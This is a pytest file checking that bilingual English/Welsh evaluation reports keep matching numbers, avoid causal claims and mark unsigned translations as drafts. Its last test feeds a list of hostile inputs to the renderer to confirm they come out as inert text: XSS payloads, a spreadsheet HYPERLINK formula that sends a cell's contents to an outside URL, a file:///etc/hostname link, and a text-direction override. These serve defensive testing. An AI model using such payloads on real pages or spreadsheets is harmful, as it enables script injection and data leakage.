"""English and Welsh: each case has a sentence in both, with the same numbers; drafts are loud, never in use."""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Mapping
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest

from counterfoil.cohort.suitability import check_suitable, unsuitable_reasons
from counterfoil.comparison import compare
from counterfoil.disclosure import DisclosureSettings, Verdict
from counterfoil.disclosure.gate import check_groups
from counterfoil.domains import justice
from counterfoil.errors import Fault, Refused, UsageError
from counterfoil.lab.make import make_lab, open_lab
from counterfoil.lab.settings import parse_settings
from counterfoil.report import render
from counterfoil.report.about import About, ProviderWords
from counterfoil.report.allow_list import check_numbers
from counterfoil.report.cases import RESULTS, CaseView, cases_page, result_cases, sentence_cases
from counterfoil.report.sentences import can_say, cannot_say
from counterfoil.report.signed import check_signed, find_drafts, sign, texts_of
from counterfoil.report.words import LANGUAGES, TRANSLATIONS, gaps_of, words_of
from counterfoil.units import Kind
from lib.reports import EVALUATIONS, REFUSALS, REPORTS
from lib.results import ABOUT

BOTH = replace(ABOUT, languages=("en", "cy"), drafts=("cy",))
TODAY = dt.date(2026, 3, 4)
# Words that say a programme did something. A sentence may hold one only where it says what cannot be said.
DID_IT = "caused|because of the programme|thanks to|worked(?! out| with)|effective|led to|reduced|achieved"
CAUSAL = re.compile(rf"\b({DID_IT})\b", re.IGNORECASE)


def numbers_of(text: str) -> list[str]:
    return sorted(re.findall(r"\d+(?:,\d{3})*(?:\.\d+)?", text))


# The table


def test_each_translation_has_the_same_keys_and_no_gap_of_its_own() -> None:
    english = words_of("en")
    for language in TRANSLATIONS:
        words = words_of(language)
        assert list(words.sentences) == list(english.sentences)
        for key in words.sentences:
            assert words.gaps(key) - {"label"} <= english.gaps(key), key
        for text, said in words.given_texts.items():
            assert gaps_of(said) == gaps_of(text), text


@pytest.mark.parametrize("case", [*result_cases(), *sentence_cases()], ids=lambda case: case.name)
def test_each_case_has_a_sentence_in_both_languages_with_the_same_numbers(case: CaseView) -> None:
    texts: Mapping[str, str] = dict(case.texts)
    assert set(texts) == set(LANGUAGES)
    if case.name != "noun.amount":  # an amount has no noun
        assert all(text.strip() for text in texts.values())
    if case.name != "given":
        assert not any(re.search(r"[{}]|  ", text) for text in texts.values())
    english, welsh = (numbers_of(texts[language]) for language in ("en", "cy"))
    assert set(english) == set(welsh)


def test_all_cases_of_a_result_are_there() -> None:
    names = {case.name for case in result_cases()}
    for kind, verdict, design in product(Kind, RESULTS, ("matched", "randomised")):
        assert f"{kind.value}, {verdict.value}, {design}" in names
        assert (f"{kind.value}, {verdict.value}, {design}, unreliable" in names) is (verdict is not Verdict.HIDDEN)
    assert {"refused", "not_suitable"} <= names
    page = cases_page()
    assert all(f">{name}<" in page for name in names)


@pytest.mark.parametrize("case", list(result_cases()), ids=lambda case: case.name)
def test_no_sentence_of_a_result_says_that_the_programme_did_it(case: CaseView) -> None:
    """EVALUATION A15. What stands after "what you cannot say" is what a reader is warned of."""
    said = dict(case.texts)["en"].partition("(What you cannot say:)")[0]
    assert not CAUSAL.search(said)
    name = case.name
    if "not_enough_evidence" in name:
        assert "not enough evidence" in said
        assert not re.search(r"\b(Fewer|fewer \w+ among|More \w+ \w+ part|no difference|no effect)\b", said)
        assert "The result rules out larger changes" in said
        assert "failed" in dict(case.texts)["en"]


@pytest.mark.parametrize("name", EVALUATIONS)
def test_what_can_and_cannot_be_said_is_the_same_in_both_languages(name: str) -> None:
    protected = EVALUATIONS[name]()
    for say in (can_say, cannot_say):
        english, welsh = (say(protected, words_of(language)) for language in ("en", "cy"))
        assert [set(numbers_of(a)) for a in english] == [set(numbers_of(b)) for b in welsh]


def test_a_date_has_the_form_of_its_language() -> None:
    day = dt.date(2026, 8, 1)
    assert (words_of("en").date(day), words_of("cy").date(day)) == ("1 August 2026", "1 Awst 2026")
    assert words_of("cy").given("Records cover dates up to 31 December 2020").endswith("31 Rhagfyr 2020")
    assert words_of("cy").given("Records cover dates up to 31 February 2020").endswith("31 February 2020")


def test_what_the_program_gives_in_english_is_there_in_welsh() -> None:
    words = words_of("cy")
    folder = Path(justice.__file__).parent
    text = (folder / "measures.toml").read_text("utf-8")
    given = {found for found in re.findall(r'^(?:label|unit) = "(.*)"$', text, re.M)}
    filled = {found.replace("{period}", "One-year").replace("{label}", "robbery") for found in given}
    for parameter in DisclosureSettings().annex():
        filled |= {parameter.meaning, parameter.source}
    warnings = Path(compare.__globals__["__file__"]).read_text("utf-8")
    filled |= set(re.findall(r'"(Some [^"]*|A few [^"]*|No covariate[^"]*)"', warnings))
    with pytest.raises(Refused) as few:
        check_groups(29, 29, DisclosureSettings())
    filled.add(few.value.reason)
    for each in unsuitable_reasons("justice"):
        with pytest.raises(Refused) as refused:
            check_suitable(each.name, "justice")
        filled |= {refused.value.reason, each.label, each.why}
    assert len(filled) > 70
    assert not sorted(each for each in filled if words.is_foreign(each))
    assert words.is_foreign("A name of a covariate")
    assert words.given("A name of a covariate") == "A name of a covariate"


# The files


@pytest.mark.parametrize("name", REPORTS)
def test_a_report_in_two_languages_has_each_file_in_each_and_links_between(name: str) -> None:
    files = render(REPORTS[name](), BOTH).files
    for file in ("report.html", "report.ods", "report.xlsx"):
        assert {file, file.replace("report.", "report.cy.")} <= set(files)
    english, welsh = (files[file].decode() for file in ("report.html", "report.cy.html"))
    assert '<a href="report.cy.html" lang="cy" hreflang="cy">Cymraeg</a>' in english
    assert '<a href="report.html" lang="en" hreflang="en">English</a>' in welsh
    assert '<html lang="cy">' in welsh
    assert "4 Mawrth 2026" in welsh
    assert welsh.count("<section") == english.count("<section")
    assert welsh.count("<tr") == english.count("<tr")
    described = json.loads(files["tables/versions.csv-metadata.json"])
    assert [said["@language"] for said in described["dc:title"]] == ["en", "cy"]


@pytest.mark.parametrize("name", EVALUATIONS)
def test_the_welsh_page_says_its_numbers_and_only_marks_english_as_english(name: str) -> None:
    files = render(EVALUATIONS[name](), BOTH).files
    texts = {}
    for file in ("report.html", "report.cy.html"):
        page = re.sub(r"<style>.*?</style>", "", files[file].decode(), flags=re.S)
        page = re.sub(r"<(\w+)[^>]* lang=\"en\"[^>]*>.*?</\1>", " ", page, flags=re.S) if "cy" in file else page
        texts[file] = re.sub(r"<[^>]*>", " ", page)
    assert not re.search(r"\b(the|people|difference|range|group)\b", without_given(texts["report.cy.html"]))
    main = [set(numbers_of(text)) for text in texts.values()]
    assert main[1] <= main[0]


def without_given(text: str) -> str:
    """Without what the run, the plan and the provider say of themselves."""
    own = ["The Bridge Trust", "Bridge to work", "Synthetic justice lab", *ABOUT.texts()]
    for name in sorted(own, key=len, reverse=True):
        text = text.replace(name, " ")
    return text


def test_settings_of_the_method_keep_their_numbers_in_both_languages() -> None:
    """They are the plan's and no results, so the check of R22 takes them for what they are in each language."""
    method = (("Follow-up", "13 months, then 7 months for proof"), ("Kept", "at least 83% of the treated, or the "
              "result is marked unreliable"))  # fmt: skip
    about = replace(BOTH, method=method, data_window="Records cover dates up to 29 November 2017")
    files = render(EVALUATIONS["fewer"](), about).files
    welsh = files["report.cy.html"].decode()
    for said in ("13 mis, yna 7 mis ar gyfer prawf", "o leiaf 83% o’r rhai", "hyd at 29 Tachwedd 2017"):
        assert said in welsh
    planted = {"report.cy.html": welsh.replace("13 mis", "13 mis, 47 person").encode()}
    with pytest.raises(Fault, match=r"report\.cy\.html"):
        check_numbers(planted, EVALUATIONS["fewer"](), about)


def test_a_report_in_one_language_is_as_before_and_has_no_link() -> None:
    files = render(EVALUATIONS["fewer"](), ABOUT).files
    assert not [name for name in files if ".cy." in name]
    assert "hreflang" not in files["report.html"].decode()


def test_a_draft_is_loud_and_a_signed_translation_is_not() -> None:
    loud = render(EVALUATIONS["fewer"](), BOTH).files["report.cy.html"].decode()
    assert "DRAFFT" in loud
    assert "DRAFT" not in render(EVALUATIONS["fewer"](), BOTH).files["report.html"].decode()
    assert "DRAFFT" not in render(EVALUATIONS["fewer"](), replace(BOTH, drafts=())).files["report.cy.html"].decode()


# Signing


def test_a_lab_cannot_switch_on_a_language_that_nobody_signed(tmp_path: Path) -> None:
    file = tmp_path / "cy.json"
    with pytest.raises(Refused, match="no translator has signed") as refused:
        check_signed("cy", file)
    assert (refused.value.exit_code, refused.value.rule) == (3, "language")
    check_signed("en", file)
    signed = sign("cy", file, translator="Siân Rees", on=TODAY)
    assert (signed.translator, signed.date) == ("Siân Rees", TODAY)
    assert find_drafts("cy", file) == ()
    check_signed("cy", file)


@pytest.mark.parametrize("key", ["headline.rate.fewer", "page.skip", "given: days"])
def test_a_text_that_changed_after_it_was_signed_is_a_draft_again(tmp_path: Path, key: str) -> None:
    file = tmp_path / "cy.json"
    sign("cy", file, translator="Siân Rees", on=TODAY)
    said = json.loads(file.read_bytes())
    assert key in said["texts"]
    said["texts"][key] = "0" * 64
    file.write_text(json.dumps(said))
    assert find_drafts("cy", file) == (key,)
    with pytest.raises(Refused, match="1 of its texts"):
        check_signed("cy", file)


def test_the_hash_is_of_the_text_and_of_its_english(monkeypatch: pytest.MonkeyPatch) -> None:
    before = texts_of("cy")
    english = words_of("en")
    changed = replace(english, sentences={**english.sentences, "can.title": "What may be said"})
    monkeypatch.setattr("counterfoil.report.signed.words_of", lambda code: changed if code == "en" else words_of(code))
    after = texts_of("cy")
    assert [key for key in before if before[key] != after[key]] == ["can.title"]


def test_nobody_signs_without_a_name_or_a_language_that_is_not_there(tmp_path: Path) -> None:
    for language, name in (("cy", " "), ("en", "Siân Rees"), ("fr", "Siân Rees")):
        with pytest.raises(UsageError):
            sign(language, tmp_path / "x.json", translator=name, on=TODAY)
    (tmp_path / "x.json").write_text("{}")
    with pytest.raises(UsageError, match="cannot be read"):
        find_drafts("cy", tmp_path / "x.json")


@pytest.mark.parametrize("languages", [[], ["cy"], ["en", "en"], ["en", "fr"]])
def test_the_setting_begins_with_english_and_knows_its_languages(languages: list[str]) -> None:
    with pytest.raises(UsageError, match="languages"):
        parse_settings({"languages": languages}, "lab.toml")
    assert parse_settings({"languages": ["en", "cy"]}, "lab.toml").languages == ("en", "cy")


def test_a_translation_is_signed_for_a_lab(tmp_path: Path) -> None:
    make_lab(tmp_path / "lab", today=TODAY)
    lab = open_lab(tmp_path / "lab")
    sign("cy", lab.paths.translation("cy"), translator="Siân Rees", on=TODAY)
    check_signed("cy", lab.paths.translation("cy"))


# The organisation's own words


def about_with(text: str) -> About:
    words = ProviderWords(response=f"R: {text}", responded=dt.date(2026, 2, 27), other_evidence=f"O: {text}")
    return replace(BOTH, description=f"D: {text}", words=words)


@pytest.mark.parametrize("name", ["fewer", *REFUSALS])
def test_the_words_of_an_organisation_are_marked_as_its_own_in_both_languages(name: str) -> None:
    files = render(REPORTS[name](), about_with("We think that 97 of our 103 clients did well.")).files
    for file, whose, day in (
        ("report.html", "are the words of The Bridge Trust. The lab has not checked them", "27 February 2026"),
        ("report.cy.html", "Geiriau The Bridge Trust yw’r testunau isod", "27 Chwefror 2026"),
    ):
        page = files[file].decode()
        assert whose in page
        assert day in page
        (section,) = re.findall(r'<section aria-labelledby="h-provider">.*?</section>', page, re.S)
        assert section.count("97 of our 103") == page.count("97 of our 103") == 3
        assert section.count('<blockquote class="own" lang="en">' if "cy" in file else '<blockquote class="own">') == 3


def test_without_words_there_is_no_section() -> None:
    files = render(EVALUATIONS["fewer"](), replace(ABOUT, description="")).files
    assert "h-provider" not in files["report.html"].decode()
    assert "tables/provider_words.csv" not in files


HOSTILE = ("<script>alert(1)</script><img src=x onerror=alert(2)>", '=HYPERLINK("https://example.org/?"&A1)',
           'file:///etc/hostname <link rel=attachment href="file:///etc/hostname">', "before \u202eesrever\u202c after",
           "word " * 2000)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=["script", "formula", "file", "direction", "long"])
def test_a06_words_that_would_act_are_text_in_every_file(text: str) -> None:
    files = render(EVALUATIONS["fewer"](), about_with(text)).files
    for file in ("report.html", "report.cy.html"):
        page = files[file].decode()
        assert not re.search(r"<script|<img|<link|\u202e", page)
    rows = files["tables/provider_words.csv"].decode()
    assert "\u202e" not in rows
    assert rows.count(text.strip().replace('"', '""').replace("\u202e", "[U+202E]").replace("\u202c", "[U+202C]")) == 3
